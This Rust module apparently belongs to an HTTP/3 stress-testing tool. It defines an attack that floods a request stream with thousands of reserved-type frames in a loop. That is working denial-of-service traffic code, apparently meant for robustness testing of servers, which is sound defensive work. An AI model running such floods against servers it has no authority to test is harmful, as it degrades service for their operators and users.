//! Frames of reserved types on a request stream.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("unknown_frames", "frames of reserved types on a request", run);

fn run(a: &mut Attacker) {
    let post = wire::post(a.kind.sink());
    let frames = wire::frame(0x21, b"").repeat(5_000);
    a.storm(|conn, body: &mut Option<StreamId>| {
        if body.is_none() {
            *body = conn.request(&post);
        }
        if let Some(id) = *body
            && conn.takes(id)
        {
            conn.write(id, &frames);
            conn.ops += 5_000;
        }
    });
}
